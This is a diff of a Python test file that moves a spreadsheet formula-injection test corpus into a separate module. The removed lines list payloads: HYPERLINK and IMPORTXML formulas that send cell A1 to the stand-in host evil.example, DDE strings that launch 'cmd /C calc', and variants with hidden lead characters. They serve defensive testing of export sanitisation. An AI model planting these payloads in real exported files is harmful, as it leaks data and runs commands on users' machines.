@@ -12,11 +12,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from report_facts import NOW, AVideo, counters, reading, totals_at
+from spreadsheet_texts import CORPUS
 from tagtide.core.desk import DeskState, RightsChannel
 from tagtide.core.metrics import creators
+from tagtide.core.spreadsheet import defend, undefend
 from tagtide.errors import InvalidInput
 from tagtide.exports import KINDS, export_rows
-from tagtide.exports.csv import defend, undefend
 from tagtide.models import Alert, AlertState, Rule
 from tagtide.services.views.desk import DeskLine, LedgerRight, RightLine, RightStatus
 
@@ -207,39 +208,6 @@ def test_unknown_kinds_and_formats_are_refused(kind: str, format_: str) -> None:
 
 # --- formulas -------------------------------------------------------------------------------------
 
-LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
-ATTACKS = [
-    '{}HYPERLINK("https://evil.example?x="&A1,"click")',
-    '{}cmd|" /C calc"!A0',
-    '{}IMPORTXML(CONCAT("https://evil.example?v=",A1),"//a")',
-    "{}SUM(1+1)*cmd",
-    '"{}1+1"',
-    "'{}1+1",
-    " {}1+1",
-    "\ufeff{}1+1",
-    "\u00a0\u3000{}1+1",
-    "''\"{}1+1",
-]
-AFTER = ["a,{}1+1", "a;{}1+1", "a|{}1+1", "a\n{}1+1", 'a\r\n"{}1+1', "a\t{}1+1", 'a";"{}1+1']
-CORPUS = [
-    *(attack.format(lead) for lead in LEADS for attack in [*ATTACKS, *AFTER]),
-    *LEADS,
-    *(lead * 3 for lead in LEADS),
-    *(f"'{lead}" for lead in LEADS),
-    *(f"'{lead}'{lead}" for lead in LEADS),
-    'DDE ("cmd";"/C calc";"x")',
-    "=1+1\0",
-    "@SUM(1)",
-    "-1",
-    "+49 30 123",
-    "plain",
-    "it's - fine, really; yes",
-    "'quoted'",
-    "",
-    "'",
-    '"',
-    "a\u2028=1",
-]
 FORMULA = "=+-@\t\r\n\0＝＋－＠"
 SKIPPED = " '\"\ufeff\u00a0\u3000\u200b"
 
